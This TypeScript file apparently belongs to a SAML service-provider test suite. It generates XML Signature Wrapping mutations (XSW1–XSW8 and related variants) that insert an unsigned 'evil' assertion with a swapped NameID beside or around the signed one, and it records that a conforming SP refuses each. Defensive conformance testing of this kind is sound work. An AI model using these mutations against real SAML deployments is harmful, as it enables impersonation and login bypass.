import {
  NS,
  assertionOf,
  child,
  ownSignature,
  parseXml,
  removeSignatures,
  serialize,
  textOf,
} from './dom.js';
import { ASSERTION_ONLY, RESPONSE_ONLY, asDelivery, evilNameId, freshId, makeEvil } from './helpers.js';
import { setText } from './dom.js';
import { inExtensions, inObject } from './placement.js';
import type { Mutation, MutationContext } from './types.js';

/*
 * XML Signature Wrapping (XSW): the signed element and the element the SP evaluates are
 * separated. A verifier that finds the signed element by ID, and a business layer that reads
 * "the" assertion by position, then see two different things. The variants follow the
 * placements catalogued by Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be"
 * (USENIX Security 2012), generalised to any vendor's prefixes.
 */

const SPEC = [
  'SAML Core 5.4.2 (References: the signature covers the element whose ID it names)',
  'SAML Profiles 4.1.4.2 (the SP processes the assertion that is signed, and only that one)',
  'SAML Security Considerations 6.4 (message integrity)',
];
const CONFORMING =
  'Refuses the response: it evaluates only the element covered by the valid signature, ' +
  'finds more than one assertion in the message, and signs no one in.';

function nameIdOf(assertion: Element): string {
  return textOf(child(child(assertion, NS.SAML, 'Subject'), NS.SAML, 'NameID'));
}

/** The assertion-level family: the Assertion is signed, the Response is not. */
function assertionWrap(
  name: string,
  title: string,
  place: (doc: Document, signed: Element, nameId: string) => void,
  advisories?: readonly string[],
): Mutation {
  return {
    id: `saml.reject.${name}`,
    title,
    spec: SPEC,
    ...(advisories ? { advisories } : {}),
    conformingSp: CONFORMING,
    signedAssertionKept: true,
    mutate(ctx: MutationContext) {
      const doc = parseXml(ctx.build(ASSERTION_ONLY));
      const signed = assertionOf(doc);
      place(doc, signed, nameIdOf(signed));
      return asDelivery(serialize(doc));
    },
  };
}

/** The response-level family: the Response is signed; an evil Response wraps a copy of it. */
function responseWrap(
  name: string,
  title: string,
  place: (doc: Document, evil: Element, original: Element) => void,
): Mutation {
  return {
    id: `saml.reject.${name}`,
    title,
    spec: SPEC,
    conformingSp: CONFORMING,
    signedAssertionKept: true,
    mutate(ctx: MutationContext) {
      const doc = parseXml(ctx.build(RESPONSE_ONLY));
      const root = doc.documentElement;
      const original = root.cloneNode(true) as Element;
      removeSignatures(original);
      const evil = root;
      evil.setAttribute('ID', freshId());
      const nameIdEl = child(child(assertionOf(doc), NS.SAML, 'Subject'), NS.SAML, 'NameID');
      setText(nameIdEl, evilNameId(textOf(nameIdEl)));
      place(doc, evil, original);
      return asDelivery(serialize(doc));
    },
  };
}

export const WRAPPING_MUTATIONS: Mutation[] = [
  assertionWrap(
    'xsw-evil-assertion-before-signed',
    'An unsigned evil assertion placed before the signed one (XSW3)',
    (doc, signed, nameId) => doc.documentElement.insertBefore(makeEvil(signed, nameId), signed),
    ['CVE-2025-47949'],
  ),
  assertionWrap(
    'xsw-evil-assertion-after-signed',
    'An unsigned evil assertion placed after the signed one',
    (doc, signed, nameId) => doc.documentElement.insertBefore(makeEvil(signed, nameId), signed.nextSibling),
  ),
  assertionWrap(
    'xsw-signed-assertion-inside-evil',
    'The signed assertion moved inside an evil assertion that takes its place (XSW4)',
    (doc, signed, nameId) => {
      const evil = makeEvil(signed, nameId);
      doc.documentElement.replaceChild(evil, signed);
      evil.appendChild(signed);
    },
  ),
  assertionWrap(
    'xsw-evil-assertion-keeps-signature',
    'An evil assertion carrying the original Signature, the signed original appended after it unsigned (XSW5)',
    (doc, signed, nameId) => {
      const evil = makeEvil(signed, nameId);
      const sig = ownSignature(signed)!.cloneNode(true);
      evil.insertBefore(sig, child(evil, NS.SAML, 'Subject'));
      const original = signed.cloneNode(true) as Element;
      removeSignatures(original);
      doc.documentElement.replaceChild(evil, signed);
      doc.documentElement.appendChild(original);
    },
  ),
  assertionWrap(
    'xsw-signed-assertion-in-evil-signature',
    "The signed assertion moved into the evil assertion's copied Signature element (XSW6)",
    (doc, signed, nameId) => {
      const evil = makeEvil(signed, nameId);
      const sig = ownSignature(signed)!.cloneNode(true) as Element;
      evil.insertBefore(sig, child(evil, NS.SAML, 'Subject'));
      const original = signed.cloneNode(true) as Element;
      removeSignatures(original);
      sig.appendChild(original);
      doc.documentElement.replaceChild(evil, signed);
    },
  ),
  assertionWrap(
    'xsw-signed-assertion-in-object',
    "The signed assertion, its signature moved out, inside a ds:Object of the evil assertion's Signature (XSW8)",
    (doc, signed, nameId) => {
      const evil = makeEvil(signed, nameId);
      const sig = ownSignature(signed)!;
      signed.removeChild(sig);
      evil.insertBefore(sig, child(evil, NS.SAML, 'Subject'));
      doc.documentElement.replaceChild(evil, signed);
      inObject(doc, sig, signed);
    },
  ),
  assertionWrap(
    'xsw-signed-assertion-in-extensions',
    'The signed assertion hidden in samlp:Extensions, an unsigned evil assertion in its place (XSW7)',
    (doc, signed, nameId) => {
      const evil = makeEvil(signed, nameId);
      doc.documentElement.replaceChild(evil, signed);
      inExtensions(doc, doc.documentElement, signed);
    },
  ),
  assertionWrap(
    'xsw-duplicate-assertion-id',
    'An evil assertion with the same ID as the signed one, placed before it',
    (doc, signed, nameId) => doc.documentElement.insertBefore(makeEvil(signed, nameId, true), signed),
  ),
  responseWrap(
    'xsw-response-in-signature-object',
    'An evil Response whose copied Signature holds the signed original Response in a ds:Object (XSW1)',
    (doc, evil, original) => inObject(doc, ownSignature(evil)!, original),
  ),
  responseWrap(
    'xsw-response-before-signature',
    'An evil Response with the signed original Response inserted before its copied Signature (XSW2)',
    (_doc, evil, original) => evil.insertBefore(original, ownSignature(evil)!),
  ),
  responseWrap(
    'xsw-response-in-extensions',
    'An evil Response with the signed original Response hidden in samlp:Extensions',
    (doc, evil, original) => inExtensions(doc, evil, original),
  ),
];
